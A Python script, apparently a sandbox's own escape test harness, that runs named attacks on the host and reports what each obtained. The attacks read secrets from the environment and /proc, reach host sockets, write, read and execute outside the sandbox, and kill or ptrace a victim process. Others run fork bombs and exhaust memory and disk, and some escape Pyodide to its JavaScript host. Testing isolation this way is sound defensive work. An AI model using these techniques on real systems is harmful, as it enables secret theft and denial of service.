"""Attacks on the host of a sandbox: `attack.py TARGETS NAME...`.

TARGETS is JSON (targets.ts). Each named attack is tried in turn and answers one line of JSON: what it got, or why it got
nothing. Runs on CPython 3.11+ and on Pyodide, where it also tries what Pyodide's JavaScript host would let it do.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import time

MB = 1024 * 1024
TARGETS = json.loads(sys.argv[1])


def env():
    found = os.environ.get(TARGETS["secretName"])
    return found or javascript("Deno.env.get", TARGETS["secretName"])


def procenv():
    return " ".join(part for part in of_processes("environ") if part.startswith(TARGETS["secretName"])) or None


def ps():
    return " ".join(part for part in of_processes("cmdline") if part.startswith("victim-")) or None


def of_processes(file):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/{file}", "rb") as stream:
                yield from stream.read().decode("utf-8", "replace").split("\0")
        except OSError:
            pass


def net():
    try:
        return connect(socket.AF_INET, ("127.0.0.1", TARGETS["port"]))
    except OSError:
        javascript("fetch", f"http://127.0.0.1:{TARGETS['port']}/")
        raise


def abstract():
    return connect(socket.AF_UNIX, "\0" + TARGETS["abstract"])


def unixpath():
    return connect(socket.AF_UNIX, TARGETS["socket"])


def connect(kind, address):
    with socket.socket(kind, socket.SOCK_STREAM) as stream:
        stream.settimeout(1)
        stream.connect(address)
        return "connected"


def vsock():
    with socket.socket(40, socket.SOCK_STREAM):
        return "a socket to the hypervisor"


def fswrite():
    path = TARGETS["outside"] + "/written"
    javascript("Deno.writeTextFileSync", path, "by the attack")
    with open(host_folder() + path, "w") as stream:
        stream.write("by the attack")
    return "written"


def fsread():
    path = TARGETS["secretFile"]
    found = javascript("Deno.readTextFileSync", path)
    if found:
        return found
    with open(host_folder() + path) as stream:
        return stream.read()


def kill():
    javascript("Deno.kill", TARGETS["victim"], "SIGKILL")
    os.kill(TARGETS["victim"], signal.SIGKILL)
    return "killed"


def exec():
    command = f"echo run > {TARGETS['outside']}/executed"
    options = javascript("JSON.parse", json.dumps({"args": ["-c", command]}))
    started = javascript("Deno.Command.new", "sh", options)
    if started is not None:
        started.outputSync()
    return "run" if subprocess.run(["sh", "-c", command]).returncode == 0 else None


def ptrace():
    return "attached" if libc().ptrace(16, TARGETS["victim"], 0, 0) == 0 else None


def userns():
    return "a user namespace of its own" if libc().unshare(0x10000000) == 0 else None


def mount():
    os.mkdir("mounted")
    if libc().mount(b"none", b"mounted", b"tmpfs", 0, None) != 0:
        return None
    libc().umount2(b"mounted", 2)
    return "mounted"


def libc():
    import ctypes

    return ctypes.CDLL(None, use_errno=True)


def fork():
    for count in range(600):
        if not forked(lambda: time.sleep(60)):
            return f"{count} children"
    time.sleep(0.5)
    return "600 children"


def forked(child):
    try:
        if os.fork() > 0:
            return True
    except OSError:
        return False
    child()
    os._exit(0)


def detach():
    if os.fork() > 0:
        os.wait()
        return "left"
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for descriptor in range(3):
        os.close(descriptor)
    time.sleep(60)
    os._exit(0)


def loop():
    while True:
        pass


def sigloop():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    loop()


def mem():
    held = [b"x" * (32 * MB) for _ in range(64)]
    return f"{len(held) * 32} MB"


def memfork():
    reading, writing = os.pipe()
    for _ in range(8):
        if not forked(lambda: hold(256, writing)):
            break
    os.close(writing)
    taken = 0
    while os.read(reading, 1):
        taken += 256
        if taken == 8 * 256:
            break
    return f"{taken} MB in 8 processes"


def hold(megabytes, writing):
    held = b"x" * (megabytes * MB)
    os.write(writing, held[:1])
    time.sleep(1)


def memfd():
    held = []
    for number in range(32):
        held.append(os.memfd_create(str(number)))
        fill(held[-1], 64)
    return f"{len(held) * 64} MB"


def disk():
    return f"{filled('.')} MB"


def inodes():
    for number in range(600_000):
        os.close(os.open(f"{TARGETS['marker']}-{number}", os.O_CREAT | os.O_WRONLY))
    return "600000 files"


def devshm():
    return f"{filled('/dev/shm')} MB"


def dev():
    return f"{filled('/dev')} MB"


def filled(directory):
    """512 MB in files of 16 MB; how many MB there was room for."""
    written = 0
    for number in range(32):
        try:
            file = os.open(f"{directory}/{TARGETS['marker']}-{number}", os.O_CREAT | os.O_WRONLY, 0o644)
            written += fill(file, 16)
            os.close(file)
        except OSError:
            break
    return written


def fill(file, megabytes):
    block = b"x" * MB
    done = 0
    for _ in range(megabytes):
        if os.write(file, block) < MB:
            break
        done += 1
    return done


def flood():
    block = "x" * (MB - 1) + "\n"
    for _ in range(200):
        sys.stdout.write(block)
    return "200 MB"


def symlink():
    os.symlink(TARGETS["outside"], "planted")
    os.symlink(TARGETS["secretFile"], "secret")
    with open("planted/written", "w") as stream:
        stream.write("by the attack")
    with open("secret") as stream:
        return stream.read()


def javascript(name, *given):
    """Calls a function of Pyodide's JavaScript host; nothing on CPython, or where the host does not let itself be reached."""
    for reach in (of_module, of_code, of_constructor):
        try:
            function = reach()
            for part in name.split("."):
                function = getattr(function, part)
            return function(*given)
        except BaseException:
            pass


def host_folder():
    """Where the root of the host is: on Pyodide where its own file system lets it be mounted."""
    if sys.platform != "emscripten":
        return ""
    import js
    import pyodide_js
    from pyodide.ffi import to_js

    if not os.path.isdir("/tmp/host"):
        os.mkdir("/tmp/host")
        options = js.constructor.fromEntries(to_js([["root", "/"]]))
        pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, options, "/tmp/host")
    return "/tmp/host"


def of_module():
    import js

    return js


def of_code():
    from pyodide.code import run_js

    return run_js("globalThis")


def of_constructor():
    import js

    return js.constructor.constructor("return globalThis")()


def attack(name):
    tried = globals()[name]
    try:
        got = tried()
        return {"attack": name, "got": None if got is None else str(got)}
    except BaseException as error:
        return {"attack": name, "got": None, "why": f"{type(error).__name__}: {error}"}


if __name__ == "__main__":
    for name in sys.argv[2:]:
        print(json.dumps(attack(name)), flush=True)
